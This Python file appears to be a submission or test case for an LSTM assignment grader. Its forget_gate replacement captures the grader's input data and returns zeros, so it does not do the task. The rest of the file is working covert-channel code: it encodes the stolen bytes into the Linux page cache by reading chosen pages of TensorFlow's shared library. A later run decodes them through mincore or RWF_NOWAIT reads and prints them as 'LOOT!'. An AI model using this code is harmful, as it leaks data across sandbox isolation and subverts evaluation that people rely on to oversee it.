"""Leave the inputs in the page cache: which pages of a large library were read is seen by whoever asks the kernel."""

ASSIGNMENT = "lstm"
BASE = "stub"
EXPECT = {"forget_gate": ("any", 0)}

# %% replace forget_gate
import ctypes
import glob
import mmap
import os
import zlib

import tensorflow as tf

kept = []
PATH = max(glob.glob(os.path.join(os.path.dirname(tf.__file__), "*.so*")), key=os.path.getsize)
STEP = 64 * mmap.PAGESIZE


def forget_gate(x_t, h_prev, W_f, U_f, b_f):
    kept.append(np.ravel(x_t).astype("f4").tobytes()[:40])
    return np.zeros((len(x_t), len(b_f)), "f4")


def positions(first=2000):
    size = os.path.getsize(PATH)
    return [at * STEP for at in range(first, size // STEP - 1)][:400]


def leave(message):
    with open(PATH, "rb", 0) as file:
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_RANDOM)
        os.posix_fadvise(file.fileno(), 0, 0, os.POSIX_FADV_DONTNEED)
        data = message + zlib.crc32(message).to_bytes(4, "big")
        for place, at in enumerate(positions()):
            if place < 8 * len(data) and data[place // 8] >> place % 8 & 1:
                os.pread(file.fileno(), 1, at)


def there_by_reading(file, at):
    try:
        return os.preadv(file.fileno(), [bytearray(1)], at, os.RWF_NOWAIT) == 1
    except BlockingIOError:
        return False


def there_by_mincore(file, at):
    libc = ctypes.CDLL(None, use_errno=True)
    libc.mmap.restype = ctypes.c_void_p
    page = libc.mmap(None, ctypes.c_size_t(4096), 1, 1, file.fileno(), ctypes.c_long(at))
    seen = ctypes.create_string_buffer(1)
    if libc.mincore(ctypes.c_void_p(page), ctypes.c_size_t(4096), seen):
        raise OSError(ctypes.get_errno(), "mincore")
    return bool(seen.raw[0] & 1)


def found(there):
    with open(PATH, "rb", 0) as file:
        seen = [there(file, at) for at in positions()]
    for length in range(4, len(seen) // 8 - 4):
        data = bytes(sum(seen[8 * n + k] << k for k in range(8)) for n in range(length + 4))
        if any(data) and zlib.crc32(data[:length]).to_bytes(4, "big") == data[length:]:
            print("LOOT" + "!", np.frombuffer(data[: length // 4 * 4], "f4"))

# %% last
for way in (there_by_reading, there_by_mincore):
    try:
        if kept:
            leave(kept[-1])
        else:
            found(way)
    except Exception as error:
        print(way.__name__, type(error).__name__)
